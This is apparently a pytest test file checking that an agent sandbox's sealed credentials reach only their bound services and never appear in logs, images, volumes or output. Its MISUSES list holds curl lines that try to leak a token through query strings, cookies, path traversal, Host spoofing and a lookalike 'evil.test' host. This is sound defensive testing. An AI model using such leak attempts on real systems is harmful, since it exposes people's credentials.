"""A real credential's whole way: sealed by its user, used by the agent, seen by the service; and nowhere else."""

from __future__ import annotations

import base64
import os
import secrets
import shlex
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from agent_container.credential_kinds import checksum
from agent_container.credentials import parse_credential
from agent_container.store import Store
from tests.support.search import EVERY_FILE, Search
from tests.support.world import DEMO, World, docker, words

OWNER = 1234 if os.getuid() == 0 else os.getuid()
SPEC = DEMO + "credentials: [acme, other, forge]\negress: {allow: [demo.acme.test]}\n"
QUIET = "/sse/items"  # the double answers it without echoing the request's headers


def test_a_search_finds_every_form() -> None:
    secret = secrets.token_urlsafe(40).encode()
    search = Search(secret)
    search.bytes(b"innocent", "nowhere")
    for shift in range(3):
        for data in (secret.hex().encode(), base64.b64encode(b"x" * shift + secret + b"yz"), b"a" + secret[::-1]):
            with pytest.raises(AssertionError):
                search.bytes(b"..." + data + b"...", "here")


@dataclass
class Sealed:
    """Two credentials that the user has set, and what was seen while they did."""

    acme: bytes = field(default_factory=lambda: b"sk-real-" + secrets.token_urlsafe(48).encode())
    other: bytes = field(default_factory=lambda: b"ghp_real" + secrets.token_hex(24).encode())
    forge: bytes = field(default_factory=lambda: b"ghp_" + secrets.token_hex(18).encode())
    arguments: set[bytes] = field(default_factory=set)
    output: bytes = b""


@pytest.fixture(scope="module")
def sealed(world: World) -> Sealed:
    made, stop = Sealed(), threading.Event()

    def watch() -> None:
        while not stop.is_set():
            for path in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    made.arguments.add(path.read_bytes())
                except OSError:
                    continue
            time.sleep(0.01)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        where = world.path / "home"
        binding = (
            "--host",
            "api.acme.test",
            "--method",
            "GET",
            "--method",
            "POST",
            "--path",
            QUIET,
            "--path",
            QUIET + "/*",
            "--path",
            "/bulk/*",
            "--path",
            "/to/*",
        )
        done = world.agc("--json", "credential", "set", "acme", *binding, "--env", "ACME_TOKEN", cwd=where,
                         stdin=made.acme + b"\n")  # fmt: skip
        binding = ("--host", "other.acme.test", "--path", "/sse/**", "--header", "X-Api-Key", "--format", "{}")
        file = world.path / "secret"
        file.write_bytes(made.other)
        other = world.agc(
            "credential", "set", "other", *binding, "--env", "OTHER_KEY", "--from-file", str(file), cwd=where
        )
        file.unlink()
        git = ("--kind", "github", "--host", "forge.acme.test", "--format", "Basic b64(*:{})", "--env", "FORGE_TOKEN")
        paths = ("--path", "/acme/app.git/info/refs", "--path", "/acme/app.git/git-upload-pack")
        world.agc("credential", "set", "forge", *git, *paths, cwd=where, stdin=made.forge)
        listed = world.agc("credential", "ls", cwd=where)
        made.output = b"".join((done.out, done.err, other.out, other.err, listed.out, listed.err))
    finally:
        stop.set()
        watcher.join()
    return made


def test_a_secret_is_sealed_and_never_shown(world: World, sealed: Sealed) -> None:
    search = Search(sealed.acme, sealed.other)
    assert any(b"credential" in arguments for arguments in sealed.arguments)
    search.bytes(b"\n".join(sealed.arguments), "an argument")
    search.bytes(sealed.output, "the output of `credential`")
    for top in (world.data, world.state):
        assert search.tree(top) > 0
        assert stat.S_IMODE(top.stat().st_mode) == 0o700
    for path in world.data.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    boxes = list((world.data / "credentials").iterdir())
    assert {stat.S_IMODE(path.stat().st_mode) for path in boxes} == {0o600}
    assert stat.S_IMODE((world.data / "credentials").stat().st_mode) == 0o700


@pytest.mark.parametrize("secret", [b"", b"\n", b"two\nlines", b"with blank", b"caf\xc3\xa9", b"x" * 9000])
def test_a_secret_that_no_header_carries_is_refused_without_being_shown(secret: bytes, world: World) -> None:
    done = world.agc(
        "credential", "set", "bad", "--host", "api.acme.test", "--path", "/x", cwd=world.path, stdin=secret, code=2
    )
    assert secret[:4] not in done.out + done.err or len(secret) < 2
    assert "bad" not in world.agc("credential", "ls", cwd=world.path).text


FILES: dict[str, tuple[Callable[[Path], object], int, str]] = {
    "its user's own": (lambda path: (path.write_text("sk-of-a-file"), path.chmod(0o600)), 0, "sealed"),
    "open to others": (lambda path: (path.write_text("sk-of-a-file"), path.chmod(0o644)), 0, "may read or change"),
    "empty": (lambda path: path.write_text(""), 2, "the secret is empty"),
    "a FIFO to which nobody writes": (os.mkfifo, 2, "the secret is empty"),
    "a directory": (Path.mkdir, 2, "Is a directory"),
    "missing": (lambda path: None, 2, "No such file"),
    "without end": (lambda path: path.symlink_to("/dev/zero"), 2, "the secret"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_secret_comes_from_a_file_that_holds_one(name: str, world: World, tmp_path: Path) -> None:
    make, code, expected = FILES[name]
    make(tmp_path / "secret")
    binding = ("--host", "api.acme.test", "--path", "/x", "--from-file", str(tmp_path / "secret"))
    done = world.agc("credential", "set", "filed", *binding, cwd=world.path, code=code)
    assert expected in done.text and b"sk-of" not in done.out + done.err


def test_a_secret_comes_from_a_command_of_the_shell(world: World) -> None:
    argv = [sys.executable, "-P", "-m", "agent_container.cli", "credential", "set", "piped", "--host", "api.acme.test"]
    line = f"{shlex.join(argv)} --path /x --from-file <(sleep 1; echo sk-of-a-command)"
    done = subprocess.run(["bash", "-c", line], env=world.environment, capture_output=True, check=False, timeout=60)
    assert done.returncode == 0, done


@dataclass
class Standing:
    """A sandbox that may use both."""

    project: Path
    session: str

    def curl(self, world: World, *words: str) -> str:
        """The status that curl got; the placeholders are the sandbox's own variables."""
        line = "curl -s -o /dev/null -m 20 -w %{http_code} " + " ".join(words)
        return world.agc("exec", "/bin/sh", "-c", line, cwd=self.project, code=None).out.decode()


@pytest.fixture(scope="module")
def standing(world: World, sealed: Sealed) -> Iterator[Standing]:
    project = world.project("credentialed", SPEC)
    if os.getuid() == 0:
        subprocess.run(["chown", "-hR", f"{OWNER}:{OWNER}", str(project)], check=True)
    session = world.agc("--json", "up", cwd=project).result["session"]
    yield Standing(project, session)
    world.agc("down", "-v", cwd=project)


def decoy(world: World, standing: Standing, name: str) -> bytes:
    return world.agc("exec", "/usr/bin/printenv", name, cwd=standing.project).out.strip()


def test_the_service_gets_the_real_bytes_in_the_right_header(world: World, sealed: Sealed, standing: Standing) -> None:
    world.ask("clear")
    assert standing.curl(world, '-H "Authorization: Bearer $ACME_TOKEN"', f"https://api.acme.test{QUIET}") == "200"
    assert (
        standing.curl(world, '-d x -H "Authorization: Bearer $ACME_TOKEN"', f"https://api.acme.test{QUIET}/7") == "200"
    )
    assert standing.curl(world, '-H "X-Api-Key: $OTHER_KEY"', "https://other.acme.test/sse/a/b") == "200"
    seen = [
        (one["host"], one["method"], one["path"], [value for name, value in one["headers"] if name.lower() == header])
        for one, header in zip(
            world.ask("log")["requests"], ("authorization", "authorization", "x-api-key"), strict=True
        )
    ]
    assert seen == [
        ("api.acme.test", "GET", QUIET, [f"Bearer {sealed.acme.decode()}"]),
        ("api.acme.test", "POST", f"{QUIET}/7", [f"Bearer {sealed.acme.decode()}"]),
        ("other.acme.test", "GET", "/sse/a/b", [sealed.other.decode()]),
    ]


def test_only_what_carries_the_placeholder_is_given_the_secret(world: World, standing: Standing) -> None:
    world.ask("clear")
    assert standing.curl(world, f"https://api.acme.test{QUIET}") == "200"
    (request,) = world.requests("api.acme.test")
    assert "authorization" not in {name.lower() for name, _ in request["headers"]}
    # A key of somebody else's in the bound header would carry data to their account.
    assert standing.curl(world, '-H "Authorization: Bearer theirs"', f"https://api.acme.test{QUIET}") == "403"
    assert len(world.requests("api.acme.test")) == 1


BEARER = '-H "Authorization: Bearer $ACME_TOKEN"'
MISUSES = {
    "another path": f"{BEARER} https://api.acme.test/sse/elsewhere",
    "a longer path": f"{BEARER} https://api.acme.test{QUIET}/7/8",
    "another method": f"-X DELETE {BEARER} https://api.acme.test{QUIET}",
    "another header": f'-H "X-Api-Key: $ACME_TOKEN" https://api.acme.test{QUIET}',
    "another form": f'-H "Authorization: Token $ACME_TOKEN" https://api.acme.test{QUIET}',
    "a cookie": f'-b "k=$ACME_TOKEN" https://api.acme.test{QUIET}',
    "another credential's host": f"{BEARER} https://other.acme.test{QUIET}",
    "another credential's header": f'-H "X-Api-Key: $ACME_TOKEN" https://other.acme.test{QUIET}',
    "the path itself": f"https://api.acme.test{QUIET}/$ACME_TOKEN",
    "the query": f"https://api.acme.test{QUIET}?key=$ACME_TOKEN",
    "plain http": f"{BEARER} http://api.acme.test{QUIET}",
    "dot segments": f"--path-as-is {BEARER} https://api.acme.test{QUIET}/../items",
    "an encoded slash": f"{BEARER} https://api.acme.test{QUIET}/%2e%2e%2fwho",
    "another port": f"{BEARER} https://api.acme.test:8443{QUIET}",
    "a host that only begins so": f"{BEARER} https://api.acme.test.evil.test{QUIET}",
    "another Host": f'{BEARER} -H "Host: demo.acme.test" https://api.acme.test{QUIET}',
}


@pytest.mark.parametrize("name", MISUSES)
def test_a_placeholder_anywhere_else_is_refused_and_noted(
    name: str, world: World, sealed: Sealed, standing: Standing
) -> None:
    world.ask("clear")
    assert standing.curl(world, MISUSES[name]) == "403"
    log = world.ask("log")
    Search(sealed.acme, sealed.other).bytes(str(log).encode(), "what the service saw")
    assert log["requests"] == []


def test_a_host_that_is_not_opened_gets_the_placeholder_at_most(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    world.ask("clear")
    assert standing.curl(world, BEARER, f"https://demo.acme.test{QUIET}") == "200"
    seen = dict(world.requests("demo.acme.test")[0]["headers"])["Authorization"]
    assert seen.encode() == b"Bearer " + decoy(world, standing, "ACME_TOKEN")


def test_git_over_https_works_with_the_placeholder_in_the_repositories_that_were_named(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    world.ask("clear")
    listed = world.agc("exec", "git", "ls-remote", "https://forge.acme.test/acme/app.git", cwd=standing.project)
    assert listed.text.startswith("a" * 40)
    asked, told = world.requests("forge.acme.test")
    assert "Authorization" not in dict(asked["headers"])
    _, _, coded = dict(told["headers"])["Authorization"].partition("Basic ")
    assert base64.b64decode(coded) == b"x-access-token:" + sealed.forge
    world.ask("clear")
    refused = world.agc(
        "exec", "git", "ls-remote", "https://forge.acme.test/evil/app.git", cwd=standing.project, code=128
    )
    assert "403" in refused.text
    assert ["Authorization" in dict(one["headers"]) for one in world.requests("forge.acme.test")] == [False]


def test_a_placeholder_of_a_forge_has_the_form_and_checksum_of_a_real_one(world: World, standing: Standing) -> None:
    shown = decoy(world, standing, "FORGE_TOKEN").decode()
    assert shown.startswith("ghp_") and len(shown) == 40
    assert shown[34:] == checksum(shown[4:34])


@pytest.mark.parametrize(("target", "seen"), [("demo.acme.test", 1), ("other.acme.test", 0)])
def test_a_redirect_takes_the_placeholder_along_at_most(
    target: str, seen: int, world: World, sealed: Sealed, standing: Standing
) -> None:
    world.ask("clear")
    status = standing.curl(world, "-L --location-trusted", BEARER, f"https://api.acme.test/to/{target}")
    assert status == ("200" if seen else "403")
    first, *further = world.ask("log")["requests"]
    assert dict(first["headers"])["Authorization"].encode() == b"Bearer " + sealed.acme
    assert [one["host"] for one in further] == [target] * seen
    Search(sealed.acme, sealed.other).bytes(str(further).encode(), "what the redirect's host saw")


REQUESTS = 200
STREAM = f"""for i in $(seq {REQUESTS}); do
  curl -s -o /dev/null -m 20 -w '%{{http_code}} ' {BEARER} https://api.acme.test/bulk/0
done"""


def test_two_rotations_during_two_hundred_requests_leave_none_with_a_withdrawn_secret(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    world.ask("clear")
    fresh = [b"sk-real-" + secrets.token_urlsafe(48).encode() for _ in range(2)]
    codes: list[str] = []
    stream = threading.Thread(
        target=lambda: codes.extend(
            world.agc("exec", "/bin/sh", "-c", STREAM, cwd=standing.project).out.decode().split()
        )
    )
    stream.start()
    known: list[int] = []
    for number, secret in enumerate(fresh):
        while len(world.requests("api.acme.test")) < (number + 1) * REQUESTS // 4:
            assert stream.is_alive()
            time.sleep(0.1)
        done = world.agc("--json", "credential", "rotate", "acme", cwd=world.path, stdin=secret)
        assert done.result["sandboxes"] == [standing.session] and done.result["failed"] == []
        known.append(len(world.requests("api.acme.test")))
        Search(secret).bytes(done.out + done.err, "the output of `rotate`")
    stream.join()
    assert codes == ["200"] * REQUESTS
    carried = [dict(one["headers"])["Authorization"].encode() for one in world.requests("api.acme.test")]
    assert len(carried) == REQUESTS
    order = [b"Bearer " + secret for secret in (sealed.acme, *fresh)]
    assert [carried.count(value) > 0 for value in order] == [True] * 3
    assert carried == sorted(carried, key=order.index), "one of them came back after it was withdrawn"
    # One request at a time: only the one under way may still have been judged before the sidecar had it.
    assert all(value != order[number] for number, at in enumerate(known) for value in carried[at + 1 :])
    sealed.acme = fresh[-1]


def test_of_two_rotations_at_once_one_is_in_the_store_and_in_the_sandbox(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    both = [b"sk-real-" + secrets.token_urlsafe(48).encode() for _ in range(2)]
    threads = [
        threading.Thread(
            target=world.agc, args=("credential", "rotate", "acme"), kwargs={"cwd": world.path, "stdin": one}
        )
        for one in both
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    held = parse_credential(Store(world.data, world.state).credentials.load("acme") or b"", name="acme").secret
    assert held is not None and held.reveal() in both
    world.ask("clear")
    assert standing.curl(world, BEARER, "https://api.acme.test/bulk/0") == "200"
    (request,) = world.requests("api.acme.test")
    assert dict(request["headers"])["Authorization"].encode() == b"Bearer " + held.reveal()
    sealed.acme = held.reveal()


def test_the_secret_is_nowhere_but_in_the_seal(world: World, sealed: Sealed, standing: Standing) -> None:
    search = Search(sealed.acme, sealed.other)
    placeholder = decoy(world, standing, "ACME_TOKEN")
    assert placeholder not in (sealed.acme, b"")
    readable = world.agc("exec", "/bin/sh", "-c", EVERY_FILE, cwd=standing.project, code=None).out
    assert placeholder in readable
    assert len(readable) > 100_000
    search.bytes(readable, "the sandbox")
    egress, agent = (world.container(role, standing.session) for role in ("egress", "agent"))
    inspected = docker("inspect", egress, agent, *words("volume", "ls", "-q", "--filter",
                       f"label=agent-container.session={standing.session}")).stdout  # fmt: skip
    assert placeholder in inspected
    search.bytes(inspected, "what Docker shows")
    for container in (egress, agent):
        search.bytes(docker("logs", container).stdout + docker("logs", container).stderr, "a container's log")
        image = docker("inspect", "--format", "{{.Image}}", container).stdout.decode().strip()
        search.bytes(docker("history", "--no-trunc", image).stdout, "an image's history")
        assert search.output(["docker", "save", image], f"image {image}") > 10_000_000
    image = docker("inspect", "--format", "{{.Image}}", agent).stdout.decode().strip()
    volumes = [name for name in words("volume", "ls", "-q") if f"ac-{standing.session}-" in name]
    home = [
        mount for mount in words("inspect", "--format", "{{range .Mounts}}{{.Name}} {{end}}", egress, agent) if mount
    ]
    names = sorted({*volumes, *home})
    assert len(names) >= 4
    mounts = [word for name in names for word in ("-v", f"{name}:/volumes/{name}:ro")]
    argv = ["docker", "run", "--rm", "--network", "none", "--user", "0", *mounts, "--entrypoint", "/bin/tar", image]
    assert search.output([*argv, "-C", "/volumes", "-c", "."], "a volume") > 1000
    rendered = world.state / "sessions" / standing.session
    assert search.tree(rendered) >= 5
    search.tree(world.path / "state")
    search.tree(world.path / "data")


def test_the_record_holds_what_was_misused_and_no_secret(world: World, sealed: Sealed, standing: Standing) -> None:
    world.agc("exec", "/bin/sh", "-c", f"curl -s {BEARER} https://api.acme.test/sse/elsewhere", cwd=standing.project)
    before = world.agc("--json", "redeploy", cwd=standing.project).result
    assert before["session"] != standing.session
    record = world.record(standing.session)
    assert record["host"]["egress"]["tripwires"]
    assert world.agc("--json", "runs", "verify", standing.session, cwd=standing.project).result["findings"] == []
    search = Search(sealed.acme, sealed.other)
    assert search.tree(world.place(standing.session)) >= 4
    shown = world.agc("runs", "show", standing.session, cwd=standing.project)
    assert "TRIPWIRE" in shown.text
    search.bytes(shown.out + shown.err, "`runs show`")
    standing.session = before["session"]


def test_a_run_gets_a_placeholder_of_its_own_and_works_with_the_real_one(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    own = '["/bin/sh", "-c", "read -r line; eval $line; printenv ACME_TOKEN"]'
    project = world.project("credentialed-run", f"version: 1\nagent: {{command: {own}}}\ncredentials: [acme]\n")
    world.ask("clear")
    task = f'curl -s -o /dev/null -w "%{{http_code}}" {BEARER} https://api.acme.test{QUIET}'
    done = world.agc("--json", "run", task, cwd=project)
    printed = "".join(line["event"]["text"] for line in done.lines[:-1] if line["event"]["type"] == "agent.output")
    assert printed.startswith("200")
    assert decoy(world, standing, "ACME_TOKEN").decode() not in printed
    assert dict(world.requests("api.acme.test")[0]["headers"])["Authorization"].encode() == b"Bearer " + sealed.acme
    search = Search(sealed.acme)
    search.bytes(done.out + done.err, "the run's output")
    search.tree(world.place(done.host["run"]))


def test_a_credential_that_is_removed_is_taken_from_a_live_sandbox(
    world: World, sealed: Sealed, standing: Standing
) -> None:
    header = '-H "X-Api-Key: $OTHER_KEY"'
    assert standing.curl(world, header, "https://other.acme.test/sse/a") == "200"
    removed = world.agc("--json", "credential", "rm", "other", cwd=world.path).result
    assert removed["sandboxes"] == [standing.session]
    world.ask("clear")
    assert standing.curl(world, header, "https://other.acme.test/sse/a") == "403"
    assert standing.curl(world, BEARER, "https://api.acme.test/bulk/0") == "200"
    assert world.requests("other.acme.test") == []
    binding = ("--host", "other.acme.test", "--path", "/sse/**", "--header", "X-Api-Key", "--format", "{}")
    world.agc("credential", "set", "other", *binding, "--env", "OTHER_KEY", cwd=world.path, stdin=sealed.other)


def test_a_credential_that_was_bound_wider_is_asked_for_again(world: World, sealed: Sealed, standing: Standing) -> None:
    wider = ("--host", "api.acme.test", "--path", "/admin/**", "--env", "ACME_TOKEN")
    world.agc("credential", "set", "acme", *wider, cwd=world.path, stdin=sealed.acme)
    refused = world.agc("up", cwd=standing.project, code=2)
    assert "credential acme at api.acme.test:443:" in refused.text and "/admin/**" in refused.text
